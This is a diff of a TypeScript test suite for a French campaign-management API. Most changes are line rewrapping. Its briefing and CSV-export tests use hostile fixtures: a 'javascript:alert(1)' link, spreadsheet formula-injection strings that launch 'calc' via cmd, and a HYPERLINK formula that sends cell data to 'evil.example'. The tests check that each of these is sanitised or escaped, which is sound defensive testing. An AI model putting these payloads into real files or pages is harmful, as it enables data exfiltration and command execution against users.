@@ -61,7 +61,10 @@ describe('projects', () => {
   });
 
   it('refuses a CSM that is not one', async () => {
-    const response = await server.request('POST', '/project', { token: csm, body: { name: 'X', clientName: 'Y', keyAccount: 999_999, actor: 'DM', lines: 1 } });
+    const response = await server.request('POST', '/project', {
+      token: csm,
+      body: { name: 'X', clientName: 'Y', keyAccount: 999_999, actor: 'DM', lines: 1 },
+    });
     expect(response.status).toBe(400);
     expect(response.body.errorMsg).toBe(PROJECT_MESSAGES.unknownCsm);
   });
@@ -128,7 +131,7 @@ describe('projects', () => {
     expect(badRange.status).toBe(400);
   });
 
-  it('lists answer exactly the contract\'s shape though sent pre-serialised (no extra field, every value valid)', async () => {
+  it("lists answer exactly the contract's shape though sent pre-serialised (no extra field, every value valid)", async () => {
     const project = await createProject('Shape check', 'Formes', 2);
     await call('PUT', '/project', csm, { id: project.id, status: 'active' });
     const [first, second] = project.targets;
@@ -157,9 +160,18 @@ describe('projects', () => {
     // response schema.
     const loaded = await call('GET', `/project/${project.id}`, csm);
     const { comments: _comments, briefing: _briefing, targets: loadedTargets, ...loadedItem } = loaded;
-    expect(item).toStrictEqual({ ...loadedItem, isProjectCommented: true, targets: loadedTargets.map((target: object) => projectListTargetSchema.parse(target)) });
+    expect(item).toStrictEqual({
+      ...loadedItem,
+      isProjectCommented: true,
+      targets: loadedTargets.map((target: object) => projectListTargetSchema.parse(target)),
+    });
     expect(Object.keys(item.targets[0]).sort()).toEqual(Object.keys(projectListTargetSchema.shape).sort());
-    expect(item.targets[0]).toMatchObject({ advertId: advert.id, populationSample: 'Ciblage forme', goal: { views: 15000, days: 0, shipments: 0 }, startDate: 1_767_225_600 });
+    expect(item.targets[0]).toMatchObject({
+      advertId: advert.id,
+      populationSample: 'Ciblage forme',
+      goal: { views: 15000, days: 0, shipments: 0 },
+      startDate: 1_767_225_600,
+    });
     expect(item.targets[1].goal).toEqual({ views: 0, days: 30, shipments: 0 });
 
     const targets = await server.request('POST', '/targets', { token: csm, body: { term: 'shape check', filters: { status: [] } } });
@@ -174,7 +186,9 @@ describe('projects', () => {
     await call('POST', '/newcomment', csm, { projectId: project.id, content: 'bye' }, 201);
     await call('DELETE', `/project/${project.id}`, csm);
     expect((await server.request('GET', `/project/${project.id}`, { token: csm })).body.errorMsg).toBe(PROJECT_MESSAGES.projectNotFound);
-    const result = (await server.database.db.execute(sql`SELECT count(*)::int AS count FROM targets WHERE project_id = ${project.id}`)) as unknown as { rows: { count: number }[] };
+    const result = (await server.database.db.execute(
+      sql`SELECT count(*)::int AS count FROM targets WHERE project_id = ${project.id}`,
+    )) as unknown as { rows: { count: number }[] };
     const [{ count }] = result.rows;
     expect(count).toBe(0);
   });
@@ -204,9 +218,17 @@ describe('targets', () => {
     expect(cleared.revenueDelayImpact).toBeNull();
 
     const cancelled = await call('PUT', `/target/${line.id}/properties`, csm, { status: '7. annulé' });
-    expect([cancelled.status, cancelled.releaseDateDiff, cancelled.delayReason, cancelled.revenueDelayImpact]).toEqual(['7. annulé', null, null, null]);
+    expect([cancelled.status, cancelled.releaseDateDiff, cancelled.delayReason, cancelled.revenueDelayImpact]).toEqual([
+      '7. annulé',
+      null,
+      null,
+      null,
+    ]);
 
-    const intermediate = await call('PUT', `/target/${notification.id}/properties`, csm, { status: '3.2 stats intermédiaires', checkDate: start + 30 * DAY });
+    const intermediate = await call('PUT', `/target/${notification.id}/properties`, csm, {
+      status: '3.2 stats intermédiaires',
+      checkDate: start + 30 * DAY,
+    });
     expect([intermediate.status, intermediate.checkDate]).toEqual(['3.2 stats intermédiaires', start + 30 * DAY]);
 
     const goal = await call('PUT', `/target/${notification.id}/properties`, csm, { goal: { shipments: 28000 } });
@@ -224,7 +246,10 @@ describe('targets', () => {
     expect([copy.position, copy.populationSample, copy.advertId, copy.actionCode]).toEqual([1, 'Cardiologues', null, `PFIDUP${YY}-1.A1`]);
     const reloaded = await call('GET', `/project/${project.id}`, csm);
     expect(reloaded.targets.map((t: { id: number }) => t.id)).toEqual([a.id, copy.id, b.id, c.id]);
-    const wrongProject = await server.request('POST', `/project/${project.id + 1000}/target/${a.id}/duplicate`, { token: csm, body: { position: 0 } });
+    const wrongProject = await server.request('POST', `/project/${project.id + 1000}/target/${a.id}/duplicate`, {
+      token: csm,
+      body: { position: 0 },
+    });
     expect(wrongProject.status).toBe(404);
 
     const detached = await call('PUT', `/target/${a.id}/unsetRel`, csm);
@@ -247,7 +272,12 @@ describe('targets', () => {
     // Status DESC in the spec's order ("3.1" after "3."), offline left out by the default filter.
     expect(page.items.map((t: { status: string }) => t.status)).toEqual(['3.1 Urgent - Stats à sortir', '3. stats à sortir', '2. en ligne']);
     const all = await call('POST', '/targets', csm, { term: 'flat list', filters: { status: [] }, orderBy: 'status', order: 'ASC' });
-    expect(all.items.map((t: { status: string }) => t.status)).toEqual(['1. offline - préparation', '2. en ligne', '3. stats à sortir', '3.1 Urgent - Stats à sortir']);
+    expect(all.items.map((t: { status: string }) => t.status)).toEqual([
+      '1. offline - préparation',
+      '2. en ligne',
+      '3. stats à sortir',
+      '3.1 Urgent - Stats à sortir',
+    ]);
     const byCode = await call('POST', '/targets', csm, { term: project.targets[1].actionCode.toLowerCase() });
     expect(byCode.items.map((t: { id: number }) => t.id)).toEqual([project.targets[1].id]);
     const filtered = await call('POST', '/targets', csm, { filters: { projectName: ['Flat list'], status: ['2. en ligne'], keyAccount: [csmId] } });
@@ -291,13 +321,28 @@ describe('comments and briefing', () => {
 
   it('stores the briefing sanitised: unsafe links, styles and unknown nodes dropped', async () => {
     const project = await createProject('Briefing', 'Ipsène', 1);
-    const text = (value: string, extra = {}) => ({ type: 'text', text: value, format: 1, style: 'color: red', detail: 0, mode: 'normal', version: 1, ...extra });
+    const text = (value: string, extra = {}) => ({
+      type: 'text',
+      text: value,
+      format: 1,
+      style: 'color: red',
+      detail: 0,
+      mode: 'normal',
+      version: 1,
+      ...extra,
+    });
     const content = {
       root: {
         type: 'root',
         children: [
           { type: 'heading', tag: 'h2', children: [text('Enjeux client')] },
-          { type: 'paragraph', children: [{ type: 'link', url: 'javascript:alert(1)', children: [text('piège')] }, { type: 'link', url: 'https://example.org', children: [text('site')] }] },
+          {
+            type: 'paragraph',
+            children: [
+              { type: 'link', url: 'javascript:alert(1)', children: [text('piège')] },
+              { type: 'link', url: 'https://example.org', children: [text('site')] },
+            ],
+          },
           { type: 'list', listType: 'bullet', children: [{ type: 'listitem', value: 1, children: [text('point')] }] },
           { type: 'script-node', children: [text('gardé')], onload: 'x' },
         ],
@@ -312,7 +357,9 @@ describe('comments and briefing', () => {
     expect(serialized).toContain('piège');
     expect(serialized).toContain('gardé');
     expect((await server.request('POST', '/briefing/create', { token: csm, body: { projectId: project.id, content } })).status).toBe(409);
-    const updated = await call('PUT', `/briefing/${created.id}`, csm, { content: { root: { type: 'root', children: [{ type: 'paragraph', children: [text('v2')] }] } } });
+    const updated = await call('PUT', `/briefing/${created.id}`, csm, {
+      content: { root: { type: 'root', children: [{ type: 'paragraph', children: [text('v2')] }] } },
+    });
     expect(JSON.stringify(updated.content)).toContain('v2');
     expect((await call('GET', `/project/${project.id}`, csm)).briefing.id).toBe(created.id);
   });
@@ -328,7 +375,11 @@ const QUOTE_FILE = [
 describe('estimates', () => {
   it('imports the quote export file, then creates a project whose targets are the quote lines', async () => {
     expect(await call('POST', '/estimates/import', salesAdmin, { csv: `\uFEFF${QUOTE_FILE}` })).toEqual({ quotes: 2, lines: 3 });
-    const project = await call('GET', `/project/estimate/DEV-2026-0042?name=${encodeURIComponent('Cardio 2026')}&actor=Laboratoire&keyAccount=${csmId}`, csm);
+    const project = await call(
+      'GET',
+      `/project/estimate/DEV-2026-0042?name=${encodeURIComponent('Cardio 2026')}&actor=Laboratoire&keyAccount=${csmId}`,
+      csm,
+    );
     expect([project.clientName, project.estimateId]).toEqual(['Laboratoires Sanofa', 'DEV-2026-0042']);
     expect(project.targets.map((t: { revenue: number; type: string; actionCode: string }) => [t.revenue, t.type, t.actionCode])).toEqual([
       [9000, 'post', `LABCARD${YY}-1.1`],
@@ -343,10 +394,15 @@ describe('estimates', () => {
     const imported = await call('PUT', `/project/${project.id}/estimate/DEV-2026-0043`, csm);
     expect(imported.targets.map((t: { actionCode: string }) => t.actionCode)).toEqual([`LABCARD${YY}-1.1`, `LABCARD${YY}-1.2`, `LABCARD${YY}-1.3`]);
     expect(imported.targets[2].type).toBe('mise en avant');
-    expect((await server.request('PUT', `/project/${project.id}/estimate/DEV-9`, { token: csm })).body.errorMsg).toBe(PROJECT_MESSAGES.estimateNotFound);
+    expect((await server.request('PUT', `/project/${project.id}/estimate/DEV-9`, { token: csm })).body.errorMsg).toBe(
+      PROJECT_MESSAGES.estimateNotFound,
+    );
 
     // A re-import replaces the quote's lines.
-    expect(await call('POST', '/estimates/import', salesAdmin, { csv: QUOTE_FILE.split('\r\n').slice(0, 2).join('\n') })).toEqual({ quotes: 1, lines: 1 });
+    expect(await call('POST', '/estimates/import', salesAdmin, { csv: QUOTE_FILE.split('\r\n').slice(0, 2).join('\n') })).toEqual({
+      quotes: 1,
+      lines: 1,
+    });
   });
 
   it('refuses a file without the expected columns or with a bad line', async () => {
@@ -370,7 +426,14 @@ describe('estimates from the invoicing API', () => {
       seen.push(`${request.url} ${request.headers.authorization}`);
       if (request.url === '/v1/quotes/DEV-API-7') {
         response.setHeader('content-type', 'application/json');
-        response.end(JSON.stringify({ id: 'DEV-API-7', client: 'MedTech Santé', signedAt: '2026-02-03', lines: [{ label: 'Vidéo produit', quantity: 1, unitPrice: 5000 }] }));
+        response.end(
+          JSON.stringify({
+            id: 'DEV-API-7',
+            client: 'MedTech Santé',
+            signedAt: '2026-02-03',
+            lines: [{ label: 'Vidéo produit', quantity: 1, unitPrice: 5000 }],
+          }),
+        );
       } else if (request.url === '/v1/quotes/DEV-BROKEN') {
         response.end('not json');
       } else {
@@ -416,7 +479,8 @@ describe('streamed export', () => {
   beforeAll(async () => {
     const project = await createProject('Export volume', 'Servyer', 0);
     projectId = project.id;
-    await server.database.db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, population_sample, goal_days, start_date, revenue, key_account_id)
+    await server.database.db
+      .execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, population_sample, goal_days, start_date, revenue, key_account_id)
       SELECT ${projectId}, n, 'EXP-' || n, '2. en ligne', 1, 'post', 'Échantillon "cardio"; test', 45, 1767225600 + n, 1234.5, ${csmId} FROM generate_series(1, ${ROWS}) n`);
   }, 120_000);
 
@@ -454,7 +518,20 @@ describe('streamed export', () => {
     expect(header).toBe(
       '\uFEFFprojectName;clientName;advertId;advertSource;actionCode;status;keyAccount;type;populationCategory;populationSample;populationSize;goal;startDate;checkDate;endDate;actor;quotationSignedMonth;initialQuotationDate;revenue;revenueDelayImpact',
     );
-    expect(first.split(';').slice(0, 12)).toEqual(['Export volume', 'Servyer', '', '', 'EXP-1', '2. en ligne', expect.any(String), 'post', '', '"Échantillon ""cardio""', ' test"', '']);
+    expect(first.split(';').slice(0, 12)).toEqual([
+      'Export volume',
+      'Servyer',
+      '',
+      '',
+      'EXP-1',
+      '2. en ligne',
+      expect.any(String),
+      'post',
+      '',
+      '"Échantillon ""cardio""',
+      ' test"',
+      '',
+    ]);
     expect(first).toContain(';1.5 mois;01/01/2026;');
     expect(first).toContain(';1234.50;');
   }, 120_000);
@@ -485,7 +562,8 @@ describe('export formatting', () => {
     const { targetExportCsv } = await import('../../src-server/features/projects/export');
     const { targetExportBodySchema } = await import('@shared/contract/projects');
     const chunks: Buffer[] = [];
-    for await (const chunk of targetExportCsv(server.database.db, targetExportBodySchema.parse(body), server.database.kind)) chunks.push(chunk as Buffer);
+    for await (const chunk of targetExportCsv(server.database.db, targetExportBodySchema.parse(body), server.database.kind))
+      chunks.push(chunk as Buffer);
     return Buffer.concat(chunks).toString('utf8');
   };
   const parseCsv = async (file: string) => {
@@ -498,7 +576,20 @@ describe('export formatting', () => {
     const { formatDay: formatDate } = await import('@shared/rules/dates');
     const { escapeFormula } = await import('@shared/rules/csv');
     const { db } = server.database;
-    const tricky = ['Plain', 'Semi;colon', 'Say "hi"', ' leading', 'trailing ', '\tTabbed', 'Line\r\nbreak', 'Only\nLF', 'Ctrl\u0001char', 'Élodie àéü', 'vt\u000b', ''];
+    const tricky = [
+      'Plain',
+      'Semi;colon',
+      'Say "hi"',
+      ' leading',
+      'trailing ',
+      '\tTabbed',
+      'Line\r\nbreak',
+      'Only\nLF',
+      'Ctrl\u0001char',
+      'Élodie àéü',
+      'vt\u000b',
+      '',
+    ];
     const names: string[] = [];
     for (const [index, text] of tricky.entries()) {
       // The project filter refuses control characters: the tricky text is the client's and the cells'.
@@ -507,7 +598,9 @@ describe('export formatting', () => {
       await db.execute(sql`INSERT INTO projects (name, client_name, key_account_id, actor, action_code, status)
         VALUES (${name}, ${text}, ${csmId}, 'Laboratoire', ${`FMT${index}-1.`}, 'active')`);
     }
-    const projectIds = (await db.execute(sql`SELECT id FROM projects WHERE name = ANY(${sql.param(names)}::text[]) ORDER BY id`)) as unknown as { rows: { id: number }[] };
+    const projectIds = (await db.execute(sql`SELECT id FROM projects WHERE name = ANY(${sql.param(names)}::text[]) ORDER BY id`)) as unknown as {
+      rows: { id: number }[];
+    };
     const days = [999_999, 1, 29, 30, 31, 45, 89, 1000];
     for (const [index, { id }] of projectIds.rows.entries()) {
       const text = tricky[index];
@@ -522,10 +615,21 @@ describe('export formatting', () => {
           CASE WHEN n % 3 = 0 THEN -n * 1.5 END, CASE WHEN n % 2 = 0 THEN ${text}::text END, CASE WHEN n % 7 = 0 THEN NULL ELSE ${csmId}::int END
         FROM generate_series(1, 24) n`);
     }
-    const [{ name: keyAccountName }] = ((await db.execute(sql`SELECT name FROM accounts WHERE id = ${csmId}`)) as unknown as { rows: { name: string }[] }).rows;
+    const [{ name: keyAccountName }] = (
+      (await db.execute(sql`SELECT name FROM accounts WHERE id = ${csmId}`)) as unknown as { rows: { name: string }[] }
+    ).rows;
     const file = await exportFile({ filters: { projectName: names, status: [] }, orderBy: 'id', order: 'ASC' });
     // The export's reading of a goal in days (spec §3): under 30 in jours, else days/30 to one decimal in mois.
-    const goalInDays: Record<number, string> = { 999_999: '33333.3 mois', 1: '1 jours', 29: '29 jours', 30: '1 mois', 31: '1 mois', 45: '1.5 mois', 89: '3 mois', 1000: '33.3 mois' };
+    const goalInDays: Record<number, string> = {
+      999_999: '33333.3 mois',
+      1: '1 jours',
+      29: '29 jours',
+      30: '1 mois',
+      31: '1 mois',
+      45: '1.5 mois',
+      89: '3 mois',
+      1000: '33.3 mois',
+    };
     const expected = tricky.flatMap((text, index) =>
       Array.from({ length: 24 }, (_, i) => {
         const n = i + 1;
@@ -558,14 +662,24 @@ describe('export formatting', () => {
     // Row by row: a difference names its row.
     for (const [index, row] of expected.entries()) expect(cells[index], `row ${index}`).toEqual(row);
     // The bytes: ';' and CRLF, a cell quoted only when it holds ';', '"' or a line break (COPY's CSV).
-    expect(file.startsWith('\uFEFFprojectName;clientName;advertId;advertSource;actionCode;status;keyAccount;type;populationCategory;populationSample;populationSize;goal;')).toBe(true);
+    expect(
+      file.startsWith(
+        '\uFEFFprojectName;clientName;advertId;advertSource;actionCode;status;keyAccount;type;populationCategory;populationSample;populationSize;goal;',
+      ),
+    ).toBe(true);
     expect(file).toContain(';"Semi;colon";');
     expect(file).toContain(';"Say ""hi""";');
     expect(file).toContain(';"Line\r\nbreak";');
     expect(file).toContain('; leading;');
     expect(file).toContain(';33333.3 mois;');
     // Every record ends with CRLF; a bare line feed only inside a quoted cell.
-    expect(file.replace(/"(?:[^"]|"")*"/g, '').split('\n').slice(0, -1).every((line) => line.endsWith('\r'))).toBe(true);
+    expect(
+      file
+        .replace(/"(?:[^"]|"")*"/g, '')
+        .split('\n')
+        .slice(0, -1)
+        .every((line) => line.endsWith('\r')),
+    ).toBe(true);
     expect(file.endsWith('\r\n')).toBe(true);
   }, 60_000);
 
@@ -578,7 +692,7 @@ describe('export formatting', () => {
     await db.execute(sql`INSERT INTO projects (name, client_name, key_account_id, actor, action_code, status)
       VALUES (${name}, ${client}, ${csmId}, 'Laboratoire', 'HOSTILE-1.', 'active')`);
     const [{ id }] = ((await db.execute(sql`SELECT id FROM projects WHERE name = ${name}`)) as unknown as { rows: { id: number }[] }).rows;
-    const hostile = { actionCode: '@SUM(1+1)*cmd|\'/C calc\'!A0', category: '\t=1+1', sample: '-2+3', actor: '\r=1+1' };
+    const hostile = { actionCode: "@SUM(1+1)*cmd|'/C calc'!A0", category: '\t=1+1', sample: '-2+3', actor: '\r=1+1' };
     await db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, advert_id, population_category, population_sample,
         population_size, goal_views, goal_days, goal_shipments, revenue, revenue_delay_impact, actor, key_account_id)
       VALUES (${id}, 0, ${hostile.actionCode}, '2. en ligne', 1, 'post', 7, ${hostile.category}, ${hostile.sample}, -5, 0, 0, 0, -1234.5, -7.25, ${hostile.actor}, ${csmId}),
@@ -603,7 +717,15 @@ describe('export formatting', () => {
         revenueDelayImpact: '-7.25',
         goal: '',
       });
-      expect(cells[1], how).toMatchObject({ projectName: `'${name}`, actionCode: '-5', populationCategory: '+3', populationSample: '-1,5', populationSize: '12', actor: 'Plain', goal: '3.3 mois' });
+      expect(cells[1], how).toMatchObject({
+        projectName: `'${name}`,
+        actionCode: '-5',
+        populationCategory: '+3',
+        populationSample: '-1,5',
+        populationSize: '12',
+        actor: 'Plain',
+        goal: '3.3 mois',
+      });
       // The ' is the cell's first character, inside the quotes where CSV quotes the cell.
       expect(file, how).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";'+cmd|'/C calc'!A0;7;/adverts/edit/7;'@SUM(1+1)`);
       expect(file, how).toContain(`;'-2+3;-5;`);
@@ -635,12 +757,23 @@ describe('demo workspace', () => {
       expect(counts.csm).toBe(1);
       expect(counts.late).toBeGreaterThan(0);
       expect(counts.withImpact).toBeGreaterThan(0);
-      const wrongRank = await query<{ id: number }>(sql`SELECT id FROM targets WHERE status_rank <> array_position(${sql.param([
-        '1. offline - préparation', '2. en ligne', '3. stats à sortir', '3.1 Urgent - Stats à sortir', '3.2 stats intermédiaires',
-        '4. feedback à préparer', '5. feedback prêt', '6. feedback réalisé', '7. annulé',
-      ])}::text[], status) - 1`);
+      const wrongRank = await query<{ id: number }>(
+        sql`SELECT id FROM targets WHERE status_rank <> array_position(${sql.param([
+          '1. offline - préparation',
+          '2. en ligne',
+          '3. stats à sortir',
+          '3.1 Urgent - Stats à sortir',
+          '3.2 stats intermédiaires',
+          '4. feedback à préparer',
+          '5. feedback prêt',
+          '6. feedback réalisé',
+          '7. annulé',
+        ])}::text[], status) - 1`,
+      );
       expect(wrongRank).toEqual([]);
-      const cancelledWithDelay = await query<{ id: number }>(sql`SELECT id FROM targets WHERE status = '7. annulé' AND (release_date_diff IS NOT NULL OR delay_reason IS NOT NULL)`);
+      const cancelledWithDelay = await query<{ id: number }>(
+        sql`SELECT id FROM targets WHERE status = '7. annulé' AND (release_date_diff IS NOT NULL OR delay_reason IS NOT NULL)`,
+      );
       expect(cancelledWithDelay).toEqual([]);
     } finally {
       await database.close();
